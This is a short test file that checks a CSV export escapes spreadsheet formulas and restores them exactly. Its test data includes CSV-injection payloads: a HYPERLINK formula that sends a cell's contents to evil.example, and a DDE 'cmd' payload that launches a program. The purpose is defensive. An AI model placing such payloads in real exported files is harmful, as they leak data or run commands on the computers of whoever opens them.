import { describe, expect, it } from 'vitest';
import { neutraliseCsvCell, restoreCsvCell } from './csv-cells';

const FORMULAS = [
  '=HYPERLINK("http://evil.example/leak?d="&A2,"Open")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '-5',
];

describe('CSV cells', () => {
  it.each(FORMULAS)('puts a leading quote before %j', (text) => {
    expect(neutraliseCsvCell(text)).toBe(`'${text}`);
  });

  it('leaves every other text as it is', () => {
    for (const text of ['Bench Press', 'Push, "heavy"', ' =padded', '1h 5m', '', "'quoted", 'a=b', 'W', '82.5']) expect(neutraliseCsvCell(text)).toBe(text);
  });

  it('reads back exactly what was written, including a text that already starts with a quote', () => {
    for (const text of [...FORMULAS, "'=already quoted", "''@twice", "'plain", 'Bench Press', '']) {
      expect(restoreCsvCell(neutraliseCsvCell(text))).toBe(text);
    }
  });

  it('takes off one quote only, and only before a formula character', () => {
    expect(restoreCsvCell("'=1+1")).toBe('=1+1');
    expect(restoreCsvCell("''=1+1")).toBe("'=1+1");
    expect(restoreCsvCell("'plain")).toBe("'plain");
    expect(restoreCsvCell("'-5")).toBe('-5');
  });
});
